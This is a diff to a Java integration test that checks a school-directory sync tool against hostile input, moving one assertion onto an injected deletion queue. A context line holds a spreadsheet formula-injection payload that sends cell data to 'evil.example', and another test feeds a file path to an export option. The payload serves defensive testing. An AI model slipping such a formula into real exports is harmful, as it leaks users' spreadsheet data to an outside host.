@@ -19,11 +19,13 @@ import java.util.List;
 import java.util.Map;
 import java.util.stream.Collectors;
 import java.util.stream.Stream;
+import javax.inject.Inject;
 import org.apache.commons.csv.CSVFormat;
 import org.apache.commons.csv.CSVRecord;
 import org.awaitility.Awaitility;
 import org.junit.Test;
 import org.junit.runner.RunWith;
+import org.misbridge.api.DeletionQueue;
 import org.misbridge.api.directory.Member;
 import org.misbridge.api.directory.SyncOutcome;
 import org.misbridge.api.directory.SyncRun;
@@ -42,6 +44,9 @@ import org.ops4j.pax.exam.spi.reactors.PerClass;
 @RunWith(PaxExam.class)
 @ExamReactorStrategy(PerClass.class)
 public class HostileInputIT extends MisBridgeTestSupport {
+
+    @Inject
+    private DeletionQueue deletions;
 
     private static final String SCHOOL = "hostile";
     private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
@@ -151,7 +156,7 @@ public class HostileInputIT extends MisBridgeTestSupport {
         // the leavers' export likewise: a path is refused before anything is queued
         assertContains(asAdmin("school:delete-leavers --export " + etc().resolve("x.json") + " --all " + SCHOOL + " --yes"),
                 "is a path");
-        assertTrue(directory.deletionQueue(SCHOOL).isEmpty());
+        assertTrue(deletions.deletionQueue(SCHOOL).isEmpty());
         assertFalse(Files.exists(etc().resolve("x.json")));
     }
 
